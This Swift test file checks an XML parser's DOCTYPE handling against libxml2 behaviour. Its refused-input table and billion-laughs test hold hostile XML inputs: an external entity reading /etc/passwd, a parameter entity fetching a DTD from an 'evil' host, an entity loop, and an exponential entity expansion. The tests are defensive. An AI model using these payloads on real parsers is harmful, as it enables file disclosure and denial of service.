import Testing
import StructuredData

/// The document type declaration: read as PHP's libxml2 reads it (each accepted row parses there
/// too, to the same text), refusing only what reaches outside the document or explodes.
struct XMLScannerDoctypeTests {
    /// Documents libxml2 reads, and the root's text (or its `a` attribute) they give.
    static let accepted: [(String, String)] = [
        ("<?xml version=\"1.0\"?>\n<!DOCTYPE request>\n<request>Hi</request>", "Hi"),
        ("<!DOCTYPE request [<!ENTITY who \"John\">]>\n<request>Hi &who;</request>", "Hi John"),
        ("<!DOCTYPE r [<!ENTITY a \"x&b;\"><!ENTITY b \"&lt;y&#62;\">]><r>&a;</r>", "x<y>"),
        ("<!DOCTYPE r [<!ENTITY e \"one\"><!ENTITY e \"two\">]><r>&e;</r>", "one"),
        ("<!DOCTYPE r PUBLIC \"-//X//DTD X//EN\" \"http://example.com/x.dtd\"><r>ok</r>", "ok"),
        ("<!DOCTYPE r SYSTEM \"http://example.com/x.dtd\"><r>ok</r>", "ok"),
        ("<!DOCTYPE r [<!ELEMENT r (#PCDATA)><!ATTLIST r a CDATA \"x>y\"><!-- c --><?pi x?>]><r>ok</r>", "ok"),
        ("<!DOCTYPE r [<!ENTITY % p \"x\">]><r>ok</r>", "ok"),
    ]

    @Test(arguments: accepted)
    func readsWhatLibxml2Reads(text: String, expected: String) throws {
        #expect(try XMLReader.parse(text).root.text == expected)
    }

    @Test func expandsEntitiesInAttributeValues() throws {
        let root = try XMLReader.parse("<!DOCTYPE r [<!ENTITY e \"v\">]><r a=\"&e;&amp;\"/>").root
        #expect(root.attribute("a") == "v&")
    }

    /// What is refused, the message and where; the first two rows are libxml2's own.
    static let refused: [(String, String, Int, Int)] = [
        ("<!DOCTYPE r>\n<r>&who;</r>", "Entity 'who' not defined", 2, 9),
        ("<r/><!DOCTYPE r>", "Extra content at the end of the document", 1, 5),
        ("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
         "External entity 'x' (file:///etc/passwd) is refused: nothing outside the document is read", 1, 52),
        ("<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil/p.dtd\">%p;]><r/>",
         "External entity 'p' (http://evil/p.dtd) is refused: nothing outside the document is read", 1, 53),
        ("<!DOCTYPE r [%p;]><r/>", "PEReference: parameter entity references are refused (nothing outside the document is read)", 1, 14),
        ("<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><r>&a;</r>", "Detected an entity reference loop", 1, 56),
        ("<!DOCTYPE r [<!ENTITY e \"<b>bold</b>\">]><r>&e;</r>",
         "Entity 'e' holds markup: only entities whose replacement is text are read", 1, 47),
        ("<!DOCTYPE r [<!ENTITY e \"<\">]><r a=\"&e;\"/>", "'<' in entity 'e' is not allowed in attributes values", 1, 40),
        ("<!DOCTYPE r [<!ENTITY e \"v\">", "DOCTYPE improperly terminated", 1, 29),
        ("<!DOCTYPE r [<!ENTITY e v>]><r/>", "Entity value required", 1, 25),
        ("<!DOCTYPE>", "xmlParseDocTypeDecl : no DOCTYPE name !", 1, 10),
    ]

    @Test(arguments: refused)
    func refusesWhatIsUnsafe(text: String, message: String, line: Int, column: Int) {
        #expect(throws: XMLParseError(message: message, location: SourceLocation(line: line, column: column))) {
            try XMLReader.parse(text)
        }
    }

    /// Ten entities each referring ten times to the one before: 10^9 bytes if expanded.
    @Test func stopsABillionLaughs() {
        var subset = "<!ENTITY e0 \"lol\">"
        for level in 1...9 {
            subset += "<!ENTITY e\(level) \"" + String(repeating: "&e\(level - 1);", count: 10) + "\">"
        }
        let text = "<!DOCTYPE r [\(subset)]><r>&e9;</r>"
        #expect(throws: XMLParseError.self) { try XMLReader.parse(text) }
        do {
            _ = try XMLReader.parse(text)
        } catch {
            #expect(error.message == "Detected an entity reference loop")
        }
    }

    @Test func expandsUpToTheLimit() throws {
        let value = String(repeating: "a", count: 1000)
        let text = "<!DOCTYPE r [<!ENTITY a \"\(value)\">]><r>" + String(repeating: "&a;", count: 1000) + "</r>"
        #expect(try XMLReader.parse(text).root.text.count == 1_000_000)
    }
}
